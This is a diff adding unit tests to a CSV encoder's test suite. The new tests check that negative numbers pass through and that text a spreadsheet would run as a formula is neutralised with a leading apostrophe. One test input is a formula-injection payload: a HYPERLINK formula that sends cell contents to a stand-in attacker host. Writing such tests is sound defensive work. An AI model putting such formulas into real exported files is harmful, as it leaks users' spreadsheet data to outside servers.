@@ -64,6 +64,13 @@ describe('CSV (RFC 4180)', () => {
     expect(csvField(null)).toBe('');
     expect(csvField(undefined)).toBe('');
     expect(csvField(42)).toBe('42');
+    expect(csvField(-42)).toBe('-42');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula, with a leading apostrophe (OWASP)', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"Click me")')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`);
+    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`).startsWith(`'${start}`) || csvField(`${start}1+1`).startsWith(`"'${start}`)).toBe(true);
+    expect(csvField('KAMAZ = truck maker')).toBe('KAMAZ = truck maker');
   });
 
   it('ends every record, the header included, with CRLF', () => {
